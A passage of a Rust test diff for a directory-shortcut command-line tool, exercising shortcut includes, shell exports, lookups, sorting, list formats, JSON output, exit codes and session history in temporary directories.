+fn LocalShortcutsLayerOverIncludes() {
+    let temp = TempDir::new().unwrap();
+
+    let teamSvc = MakeDir(&temp, "team/svc").canonicalize().unwrap();
+    let machineSvc = MakeDir(&temp, "machine/svc").canonicalize().unwrap();
+    let docs = MakeDir(&temp, "team/docs").canonicalize().unwrap();
+    let mine = MakeDir(&temp, "mine").canonicalize().unwrap();
+
+    let teamFile = temp.path().join("team.shortcuts");
+    let machineFile = temp.path().join("machine.shortcuts");
+
+    fs::write(
+        &teamFile,
+        format!("svc={}\ndocs={}\n", teamSvc.display(), docs.display()),
+    )
+    .unwrap();
+
+    fs::write(&machineFile, format!("svc={}\n", machineSvc.display())).unwrap();
+
+    MakeDir(&temp, ".goto");
+
+    let configFile = temp.path().join(".goto/to_dirs");
+
+    fs::write(
+        &configFile,
+        format!(
+            "@include {}\n@include {}\n@include /nonexistent/goto\n",
+            teamFile.display(),
+            machineFile.display()
+        ),
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .args(["--print-path", "svc"])
+        .assert()
+        .success()
+        .stdout(format!("{}\n", teamSvc.display()));
+
+    BuildCommand(&temp)
+        .args(["--list", "docs"])
+        .assert()
+        .success()
+        .stdout(contains(teamFile.to_str().unwrap()));
+
+    BuildCommand(&temp)
+        .args(["--add", "svc", mine.to_str().unwrap(), "--local"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--print-path", "svc"])
+        .assert()
+        .success()
+        .stdout(format!("{}\n", mine.display()));
+
+    let stored = fs::read_to_string(&configFile).unwrap();
+
+    assert!(stored.starts_with(&format!("@include {}\n", teamFile.display())));
+    assert!(stored.contains("@include /nonexistent/goto"));
+    assert!(stored.contains("svc="));
+    assert!(!stored.contains("docs="));
+
+    BuildCommand(&temp).args(["--rm", "svc"]).assert().success();
+
+    BuildCommand(&temp)
+        .args(["--print-path", "svc"])
+        .assert()
+        .success()
+        .stdout(format!("{}\n", teamSvc.display()));
+}
+
+#[test]
+fn IncludedShortcutsAreReadOnly() {
+    let temp = TempDir::new().unwrap();
+
+    let teamSvc = MakeDir(&temp, "team/svc").canonicalize().unwrap();
+    let mine = MakeDir(&temp, "mine");
+    let teamFile = temp.path().join("team.shortcuts");
+
+    fs::write(&teamFile, format!("svc={}\n", teamSvc.display())).unwrap();
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_dirs"),
+        format!("@include {}\n", teamFile.display()),
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .args(["--rm", "svc"])
+        .assert()
+        .code(7)
+        .stderr(contains("read-only"));
+
+    BuildCommand(&temp)
+        .args(["--add", "svc", mine.to_str().unwrap(), "--force"])
+        .assert()
+        .code(7)
+        .stderr(contains("--local"));
+
+    BuildCommand(&temp)
+        .args(["--rename", "svc", "service"])
+        .assert()
+        .code(7);
+
+    assert_eq!(
+        fs::read_to_string(&teamFile).unwrap(),
+        format!("svc={}\n", teamSvc.display())
+    );
+}
+
+#[test]
+fn ExportShellEmitsNamedDirectoriesAndVariables() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "code/my project").canonicalize().unwrap();
+    let api = MakeDir(&temp, "code/api").canonicalize().unwrap();
+    let code = project.parent().unwrap().to_path_buf();
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "export_prefix=DIR_\nexport_cdpath=true\n",
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--add", "api-v2", api.to_str().unwrap()])
+        .assert()
+        .success();
+
+    let zsh = String::from_utf8(
+        BuildCommand(&temp)
+            .args(["--export-shell", "zsh"])
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap();
+
+    assert!(zsh.contains(&format!("hash -d proj='{}'", project.display())));
+    assert!(zsh.contains(&format!("export DIR_API_V2='{}'", api.display())));
+    assert!(zsh.contains(&format!(
+        "export CDPATH=\"${{GOTO_CDPATH_BASE:-.}}\":'{}'",
+        code.display()
+    )));
+
+    let bash = String::from_utf8(
+        BuildCommand(&temp)
+            .args(["--export-shell", "bash"])
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap();
+
+    assert!(!bash.contains("hash -d"));
+
+    let evaluated = std::process::Command::new("bash")
+        .args(["-c", &format!("{bash}\nprintf %s \"$DIR_PROJ\"")])
+        .output()
+        .unwrap();
+
+    assert_eq!(
+        String::from_utf8(evaluated.stdout).unwrap(),
+        project.to_str().unwrap()
+    );
+
+    BuildCommand(&temp)
+        .args(["--export-shell", "fish"])
+        .assert()
+        .success()
+        .stdout(contains(format!(
+            "set -gx DIR_PROJ '{}'",
+            project.display()
+        )));
+}
+
+#[test]
+fn ExportShellUnsetsRemovedShortcuts() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "export_prefix=DIR_\nexport_cdpath=true\n",
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_EXPORTED", "~api-v2 DIR_API_V2 ~proj DIR_PROJ CDPATH")
+        .args(["--export-shell", "zsh"])
+        .assert()
+        .success()
+        .stdout(
+            contains("unhash -d api-v2")
+                .and(contains("unset DIR_API_V2"))
+                .and(contains("unset DIR_PROJ").not())
+                .and(contains("export GOTO_EXPORTED='~proj DIR_PROJ CDPATH'")),
+        );
+}
+
+#[test]
+fn ExportShellSkipsReservedNamesAndKeepsUserCdpath() {
+    let temp = TempDir::new().unwrap();
+
+    let session = MakeDir(&temp, "code/session").canonicalize().unwrap();
+    let code = session.parent().unwrap().to_path_buf();
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "export_cdpath=true\n",
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "session", session.to_str().unwrap()])
+        .assert()
+        .success();
+
+    let exports = String::from_utf8(
+        BuildCommand(&temp)
+            .args(["--export-shell", "bash"])
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap();
+
+    assert!(!exports.contains("export GOTO_SESSION="));
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "export_cdpath=false\n",
+    )
+    .unwrap();
+
+    let cleanup = String::from_utf8(
+        BuildCommand(&temp)
+            .env("GOTO_EXPORTED", "CDPATH")
+            .args(["--export-shell", "bash"])
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap();
+
+    for (initial, expected) in [("/srv", "/srv"), ("", "unset")] {
+        let script = format!(
+            "{}\n{exports}\nprintf '%s|' \"$CDPATH\"\n{cleanup}\nprintf %s \"${{CDPATH-unset}}\"",
+            if initial.is_empty() {
+                "unset CDPATH".to_string()
+            } else {
+                format!("export CDPATH={initial}")
+            }
+        );
+
+        let evaluated = std::process::Command::new("bash")
+            .args(["-c", &script])
+            .output()
+            .unwrap();
+
+        let base = if initial.is_empty() { "." } else { initial };
+
+        assert_eq!(
+            String::from_utf8(evaluated.stdout).unwrap(),
+            format!("{base}:{}|{expected}", code.display())
+        );
+    }
+}
+
+#[test]
+fn WhichSkipsLegacyCheckAndStoreLoad() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "proj").canonicalize().unwrap();
+    let bin = MakeDir(&temp, "bin");
+    let marker = temp.path().join("zsh-ran");
+
+    let zsh = bin.join("zsh");
+
+    fs::write(&zsh, format!("#!/bin/sh\ntouch '{}'\n", marker.display())).unwrap();
+
+    let mut permissions = fs::metadata(&zsh).unwrap().permissions();
+    permissions.set_mode(0o755);
+    fs::set_permissions(&zsh, permissions).unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    // An unreadable visit log would fail a full store load.
+    let visits = temp.path().join(".goto/to_dirs_visits");
+    fs::remove_file(&visits).ok();
+    fs::create_dir_all(&visits).unwrap();
+
+    let searchPath = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+
+    BuildCommand(&temp)
+        .env_remove("GOTO_SKIP_LEGACY_CHECK")
+        .env("PATH", &searchPath)
+        .args(["--which", project.to_str().unwrap()])
+        .assert()
+        .success()
+        .stdout("proj\n");
+
+    assert!(!marker.exists());
+
+    BuildCommand(&temp)
+        .env_remove("GOTO_SKIP_LEGACY_CHECK")
+        .env("PATH", &searchPath)
+        .arg("--list")
+        .assert();
+
+    assert!(marker.exists());
+}
+
+#[test]
+fn WhichReportsContainingShortcut() {
+    let temp = TempDir::new().unwrap();
+
+    let code = MakeDir(&temp, "code").canonicalize().unwrap();
+    let project = MakeDir(&temp, "code/proj").canonicalize().unwrap();
+    let lib = MakeDir(&temp, "code/proj/src/lib").canonicalize().unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "code", code.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--which", lib.to_str().unwrap()])
+        .assert()
+        .success()
+        .stdout("proj/src/lib\n");
+
+    BuildCommand(&temp)
+        .current_dir(&project)
+        .arg("--which")
+        .assert()
+        .success()
+        .stdout("proj\n");
+
+    BuildCommand(&temp)
+        .args(["--which", lib.to_str().unwrap(), "--all"])
+        .assert()
+        .success()
+        .stdout("proj/src/lib\ncode/proj/src/lib\n");
+
+    BuildCommand(&temp)
+        .args([
+            "--which",
+            lib.to_str().unwrap(),
+            "--format",
+            "[{keyword}] {remainder}",
+        ])
+        .assert()
+        .success()
+        .stdout("[proj] src/lib\n");
+
+    let output = BuildCommand(&temp)
+        .args(["--which", lib.to_str().unwrap(), "--all", "--json"])
+        .output()
+        .unwrap();
+
+    let parsed: Value = serde_json::from_slice(&output.stdout).unwrap();
+
+    assert_eq!(parsed[0]["keyword"], "proj");
+    assert_eq!(parsed[0]["remainder"], "src/lib");
+    assert_eq!(parsed[1]["keyword"], "code");
+
+    BuildCommand(&temp)
+        .args(["--which", temp.path().to_str().unwrap()])
+        .assert()
+        .code(1)
+        .stdout("")
+        .stderr("");
+}
+
+#[test]
+fn NearbySortRanksShortcutsAroundCwd() {
+    let temp = TempDir::new().unwrap();
+
+    let work = MakeDir(&temp, "work").canonicalize().unwrap();
+    let monorepo = MakeDir(&temp, "work/monorepo").canonicalize().unwrap();
+    let service = MakeDir(&temp, "work/monorepo/svc").canonicalize().unwrap();
+    let far = MakeDir(&temp, "other/far").canonicalize().unwrap();
+    let apiNear = MakeDir(&temp, "work/monorepo/svc/api")
+        .canonicalize()
+        .unwrap();
+    let apiFar = MakeDir(&temp, "other/far/api").canonicalize().unwrap();
+
+    for (keyword, path) in [
+        ("far", &far),
+        ("work", &work),
+        ("svc", &service),
+        ("mono", &monorepo),
+        ("apia", &apiFar),
+        ("apib", &apiNear),
+    ] {
+        BuildCommand(&temp)
+            .args(["--add", keyword, path.to_str().unwrap()])
+            .assert()
+            .success();
+    }
+
+    BuildCommand(&temp).arg("svc").assert().success();
+
+    BuildCommand(&temp)
+        .args(["--config", "sort_order", "nearby"])
+        .assert()
+        .success();
+
+    let completions = BuildCommand(&temp)
+        .current_dir(&monorepo)
+        .args(["--__complete-mode", "keywords", "--__complete-input", ""])
+        .output()
+        .unwrap();
+
+    assert_eq!(
+        String::from_utf8(completions.stdout).unwrap(),
+        "svc\nmono\napib\nwork\nfar\napia\n"
+    );
+
+    let listed = BuildCommand(&temp)
+        .current_dir(&far)
+        .args(["--list", "--json"])
+        .output()
+        .unwrap();
+
+    let parsed: Value = serde_json::from_slice(&listed.stdout).unwrap();
+
+    let keywords: Vec<&str> = parsed
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|result| result["keyword"].as_str().unwrap())
+        .collect();
+
+    assert_eq!(keywords, ["far", "apia", "svc", "work", "mono", "apib"]);
+
+    BuildCommand(&temp)
+        .current_dir(&monorepo)
+        .arg("apix")
+        .assert()
+        .failure()
+        .stderr(contains("apib, apia"));
+}
+
+#[test]
+fn OrderByAppliesMultipleKeysWithoutPersisting() {
+    let temp = TempDir::new().unwrap();
+
+    let alpha = MakeDir(&temp, "zeta");
+    let beta = MakeDir(&temp, "mid");
+    let gamma = MakeDir(&temp, "aaa");
+
+    for (keyword, path) in [("alpha", &alpha), ("beta", &beta), ("gamma", &gamma)] {
+        BuildCommand(&temp)
+            .args(["--add", keyword, path.to_str().unwrap()])
+            .assert()
+            .success();
+    }
+
+    for keyword in ["gamma", "beta", "gamma"] {
+        BuildCommand(&temp).arg(keyword).assert().success();
+    }
+
+    let ListOrder = |orderBy: &str| -> Vec<String> {
+        let output = BuildCommand(&temp)
+            .args(["--list", "--json", "--order-by", orderBy])
+            .output()
+            .unwrap();
+
+        let parsed: Value = serde_json::from_slice(&output.stdout).unwrap();
+
+        parsed
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|result| result["keyword"].as_str().unwrap().to_string())
+            .collect()
+    };
+
+    assert_eq!(ListOrder("-uses,keyword"), ["gamma", "beta", "alpha"]);
+    assert_eq!(ListOrder("path"), ["gamma", "beta", "alpha"]);
+    assert_eq!(ListOrder("-added"), ["gamma", "beta", "alpha"]);
+    assert_eq!(ListOrder("-keyword"), ["gamma", "beta", "alpha"]);
+    assert_eq!(ListOrder("uses,-recent"), ["alpha", "beta", "gamma"]);
+
+    let limited = BuildCommand(&temp)
+        .args(["--list", "--json", "--order-by", "-uses", "--limit", "1"])
+        .output()
+        .unwrap();
+
+    let parsed: Value = serde_json::from_slice(&limited.stdout).unwrap();
+
+    assert_eq!(parsed[0]["keyword"], "gamma");
+    assert_eq!(parsed[0]["uses"], 2);
+
+    BuildCommand(&temp)
+        .arg("--show-sort")
+        .assert()
+        .success()
+        .stdout(contains("alpha"));
+
+    BuildCommand(&temp)
+        .args(["--list", "--order-by", "size"])
+        .assert()
+        .failure()
+        .stderr(contains("Invalid").and(contains("--order-by")));
+
+    BuildCommand(&temp)
+        .args(["--order-by", "path"])
+        .assert()
+        .failure()
+        .stderr(contains("require --list"));
+}
+
+#[test]
+fn ListColumnsSupportTableDelimitedAndTemplateOutput() {
+    let temp = TempDir::new().unwrap();
+
+    let app = MakeDir(&temp, "app");
+    let docs = MakeDir(&temp, "docs,v2");
+
+    BuildCommand(&temp)
+        .args(["--add", "app", app.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--add", "docs", docs.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp).arg("app").assert().success();
+
+    fs::remove_dir(&docs).unwrap();
+
+    BuildCommand(&temp)
+        .args([
+            "--list",
+            "--columns",
+            "keyword,exists,uses",
+            "--output",
+            "tsv",
+        ])
+        .assert()
+        .success()
+        .stdout("app\tyes\t1\ndocs\tno\t0\n");
+
+    BuildCommand(&temp)
+        .args(["--list", "--columns", "keyword,path", "--output", "csv"])
+        .assert()
+        .success()
+        .stdout(format!(
+            "keyword,path\napp,{}\ndocs,\"{}\"\n",
+            app.display(),
+            docs.display()
+        ));
+
+    BuildCommand(&temp)
+        .args([
+            "--list",
+            "--columns",
+            "path",
+            "--output",
+            "nul",
+            "--limit",
+            "1",
+        ])
+        .assert()
+        .success()
+        .stdout(format!("{}\0", app.display()));
+
+    BuildCommand(&temp)
+        .args(["--list", "doc", "--format", r"{keyword}\t{exists}\t{tags}"])
+        .assert()
+        .success()
+        .stdout("docs\tno\t\n");
+
+    let table = BuildCommand(&temp)
+        .env("COLUMNS", "30")
+        .args(["--list", "--columns", "keyword,path,uses"])
+        .output()
+        .unwrap();
+
+    let table = String::from_utf8(table.stdout).unwrap();
+
+    let lines: Vec<&str> = table.lines().collect();
+
+    assert_eq!(lines.len(), 3);
+    assert!(lines[0].starts_with("KEYWORD  PATH"));
+    assert!(lines[1].starts_with("app      …"));
+    assert!(lines.iter().all(|line| line.chars().count() <= 30));
+}
+
+#[test]
+fn ListLayoutFlagsRejectConflicts() {
+    let temp = TempDir::new().unwrap();
+
+    BuildCommand(&temp)
+        .args(["--list", "--columns", "keyword", "--json"])
+        .assert()
+        .code(2)
+        .stdout(contains("cannot").and(contains("--json")));
+
+    BuildCommand(&temp)
+        .args(["--columns", "keyword"])
+        .assert()
+        .code(2)
+        .stderr(contains("require --list"));
+
+    BuildCommand(&temp)
+        .args(["--list", "--columns", "keyword", "--format", "{keyword}"])
+        .assert()
+        .code(2);
+}
+
+#[test]
+fn JsonAddReportsEachOutcome() {
+    let temp = TempDir::new().unwrap();
+
+    let first = MakeDir(&temp, "first");
+    let second = MakeDir(&temp, "second");
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "--add", "proj", first.to_str().unwrap()])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let added: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(added["schema"], 1);
+    assert_eq!(added["action"], "add");
+    assert_eq!(added["outcome"], "added");
+    assert_eq!(added["keyword"], "proj");
+    assert_eq!(added["path"], first.to_str().unwrap());
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "--add", "proj", first.to_str().unwrap()])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let again: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(again["outcome"], "already_present");
+
+    let output = BuildCommand(&temp)
+        .args([
+            "--json",
+            "--add",
+            "proj",
+            second.to_str().unwrap(),
+            "--force",
+        ])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let replaced: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(replaced["outcome"], "replaced");
+    assert_eq!(replaced["previous_path"], first.to_str().unwrap());
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "--rm", "proj"])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let removed: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(removed["action"], "remove");
+    assert_eq!(removed["path"], second.to_str().unwrap());
+}
+
+#[test]
+fn JsonLookupsReportResolvedShortcut() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "--alias", "p", "proj"])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let aliased: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(aliased["action"], "alias");
+    assert_eq!(aliased["outcome"], "aliased");
+    assert_eq!(aliased["alias_of"], "proj");
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "--print-path", "p"])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let printed: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(printed["action"], "print-path");
+    assert_eq!(printed["keyword"], "proj");
+    assert_eq!(printed["path"], project.to_str().unwrap());
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "proj"])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let jumped: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(jumped["action"], "jump");
+    assert_eq!(jumped["kind"], "directory");
+    assert_eq!(jumped["created"], false);
+}
+
+#[test]
+fn JsonReportsSortAndConfig() {
+    let temp = TempDir::new().unwrap();
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "--show-sort"])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let sort: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(sort["schema"], 1);
+    assert_eq!(sort["action"], "show-sort");
+    assert_eq!(sort["sort"], "alpha");
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "--config", "sort_order", "recent"])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let config: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(config["action"], "config");
+    assert_eq!(config["value"], "recent");
+}
+
+#[test]
+fn JsonErrorsCarryCodeAndSuggestions() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "--rm", "prj"])
+        .assert()
+        .failure()
+        .stderr("")
+        .get_output()
+        .stdout
+        .clone();
+
+    let error: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(error["schema"], 1);
+    assert_eq!(error["code"], "keyword_not_found");
+    assert!(
+        error["suggestions"]
+            .as_array()
+            .unwrap()
+            .contains(&Value::from("proj"))
+    );
+}
+
+#[test]
+fn ClassifyIgnoresJsonFlag() {
+    let temp = TempDir::new().unwrap();
+
+    BuildCommand(&temp)
+        .args(["--__classify", "--json", "anything"])
+        .assert()
+        .success()
+        .stdout("nojump\n");
+}
+
+#[test]
+fn UsageErrorsExitTwo() {
+    let temp = TempDir::new().unwrap();
+
+    BuildCommand(&temp)
+        .args(["--list", "--order-by", "size"])
+        .assert()
+        .code(2)
+        .stderr(contains("Error: "));
+
+    BuildCommand(&temp)
+        .args(["--config", "sort_order", "sideways"])
+        .assert()
+        .code(2)
+        .stderr(contains("Error: Error:").not());
+}
+
+#[test]
+fn UnknownKeywordExitsThree() {
+    let temp = TempDir::new().unwrap();
+
+    let proj = MakeDir(&temp, "proj");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", proj.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .arg("prj")
+        .assert()
+        .code(3)
+        .stderr(contains("Error: Shortcut or path 'prj' not found."));
+}
+
+#[test]
+fn MissingDirectoryExitsFour() {
+    let temp = TempDir::new().unwrap();
+
+    let gone = MakeDir(&temp, "gone");
+
+    BuildCommand(&temp)
+        .args(["--add", "gone", gone.to_str().unwrap()])
+        .assert()
+        .success();
+
+    fs::remove_dir(&gone).unwrap();
+
+    BuildCommand(&temp)
+        .args(["--no-create", "gone"])
+        .assert()
+        .code(4)
+        .stderr(contains("does").and(contains("exist")));
+}
+
+#[test]
+fn ConflictingAddExitsFive() {
+    let temp = TempDir::new().unwrap();
+
+    let proj = MakeDir(&temp, "proj");
+    let other = MakeDir(&temp, "other");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", proj.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", other.to_str().unwrap()])
+        .assert()
+        .code(5)
+        .stderr(contains("--force"));
+
+    let output = BuildCommand(&temp)
+        .args(["--json", "--add", "proj", other.to_str().unwrap()])
+        .assert()
+        .code(5)
+        .stderr("")
+        .get_output()
+        .stdout
+        .clone();
+
+    let error: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(error["code"], "keyword_exists");
+    assert_eq!(error["exit_code"], 5);
+    assert!(!error["error"].as_str().unwrap().starts_with("Error"));
+}
+
+#[test]
+fn DeclinedPromptExitsSix() {
+    let temp = TempDir::new().unwrap();
+
+    let proj = MakeDir(&temp, "proj");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", proj.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_ASSUME_YES", "0")
+        .args(["--add", "again", proj.to_str().unwrap()])
+        .assert()
+        .code(6)
+        .stderr(contains("Aborted"));
+}
+
+#[test]
+fn ChangingIncludedShortcutExitsSeven() {
+    let temp = TempDir::new().unwrap();
+
+    let team = MakeDir(&temp, "team");
+    let shared = temp.path().join("shared_dirs");
+
+    fs::write(&shared, format!("team={}\n", team.display())).unwrap();
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_dirs"),
+        format!("@include {}\n", shared.display()),
+    )
+    .unwrap();
+
+    BuildCommand(&temp).args(["--rm", "team"]).assert().code(7);
+}
+
+#[test]
+fn LookupFailuresReportSpecificJsonCodes() {
+    let temp = TempDir::new().unwrap();
+
+    let proj = MakeDir(&temp, "proj");
+    MakeDir(&temp, "proj/alpha");
+    MakeDir(&temp, "proj/alps");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", proj.to_str().unwrap()])
+        .assert()
+        .success();
+
+    for (args, name) in [
+        (["--print-path", "proj:t"], "anchor_not_found"),
+        (["--print-path", "proj/al"], "ambiguous"),
+        (["--print-path", "-"], "history_not_found"),
+    ] {
+        let output = BuildCommand(&temp)
+            .arg("--json")
+            .args(args)
+            .assert()
+            .code(3)
+            .get_output()
+            .stdout
+            .clone();
+
+        let error: Value = serde_json::from_slice(&output).unwrap();
+
+        assert_eq!(error["code"], name, "{args:?}");
+    }
+}
+
+#[test]
+fn HistoryJumpsBackBySession() {
+    let temp = TempDir::new().unwrap();
+
+    let first = MakeDir(&temp, "first");
+    let second = MakeDir(&temp, "second");
+    let third = MakeDir(&temp, "third");
+
+    BuildCommand(&temp)
+        .args(["--add", "second", second.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--add", "third", third.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&first)
+        .arg("second")
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&second)
+        .arg("third")
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&third)
+        .args(["--print-path", "-"])
+        .assert()
+        .success()
+        .stdout(contains(second.canonicalize().unwrap().to_str().unwrap()));
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&third)
+        .args(["--print-path", "-2"])
+        .assert()
+        .success()
+        .stdout(contains(first.canonicalize().unwrap().to_str().unwrap()));
+}
+
+#[test]
+fn HistoryRejectsStepsPastTheStart() {
+    let temp = TempDir::new().unwrap();
+
+    let first = MakeDir(&temp, "first");
+    let second = MakeDir(&temp, "second");
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&first)
+        .args(["--print-path", "-"])
+        .assert()
+        .code(3)
+        .stderr(contains("No directory history yet."));
+
+    BuildCommand(&temp)
+        .args(["--add", "second", second.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&first)
+        .arg("second")
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&second)
+        .args(["--print-path", "-3"])
+        .assert()
+        .code(3)
+        .stderr(contains("cannot go back 3"));
+
+    fs::remove_dir(&first).unwrap();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&second)
+        .args(["--print-path", "-"])
+        .assert()
+        .code(4)
+        .stderr(contains("no longer exists"));
+}
+
+#[test]
+fn HistoryListsSessionSteps() {
+    let temp = TempDir::new().unwrap();
+
+    let first = MakeDir(&temp, "first");
+    let second = MakeDir(&temp, "second");
+    let third = MakeDir(&temp, "third");
+
+    BuildCommand(&temp)
+        .args(["--add", "second", second.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--add", "third", third.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&first)
+        .arg("second")
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&second)
+        .arg("third")
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&third)
+        .arg("--history")
+        .assert()
+        .success()
+        .stdout(contains("-1"))
+        .stdout(contains("-2"))
+        .stdout(contains(first.canonicalize().unwrap().to_str().unwrap()));
+}
+
+#[test]
+fn NewSessionFallsBackToGlobalHistory() {
+    let temp = TempDir::new().unwrap();
+
+    let first = MakeDir(&temp, "first");
+    let second = MakeDir(&temp, "second");
+
+    BuildCommand(&temp)
+        .args(["--add", "second", second.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "one")
+        .current_dir(&first)
+        .arg("second")
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_SESSION", "two")
+        .current_dir(&second)
+        .args(["--print-path", "-"])
+        .assert()
+        .success()
+        .stdout(contains(first.canonicalize().unwrap().to_str().unwrap()));
+}
+
+#[test]
+fn TrackedVisitsProduceSuggestions() {
+    let temp = TempDir::new().unwrap();
+
+    let existing = MakeDir(&temp, "app");
+    let busy = MakeDir(&temp, "work/app");
+    let quiet = MakeDir(&temp, "quiet");
+
+    BuildCommand(&temp)
+        .args(["--add", "app", existing.to_str().unwrap()])
+        .assert()
+        .success();
+
+    for _ in 0..3 {
+        BuildCommand(&temp)
+            .args(["--track", busy.to_str().unwrap()])
+            .assert()
+            .success();
+    }
+
+    BuildCommand(&temp)
+        .args(["--track", quiet.to_str().unwrap()])
+        .assert()
+        .success();
+
+    let mut preview = BuildCommand(&temp);
+    preview.env_remove("GOTO_ASSUME_YES");
+
+    preview
+        .arg("--suggest")
+        .assert()
+        .success()
+        .stdout(contains("work-app"))
+        .stdout(contains("3 visits"))
+        .stdout(contains("quiet"));
+
+    BuildCommand(&temp)
+        .arg("--suggest")
+        .assert()
+        .success()
+        .stdout(contains("Added"));
+
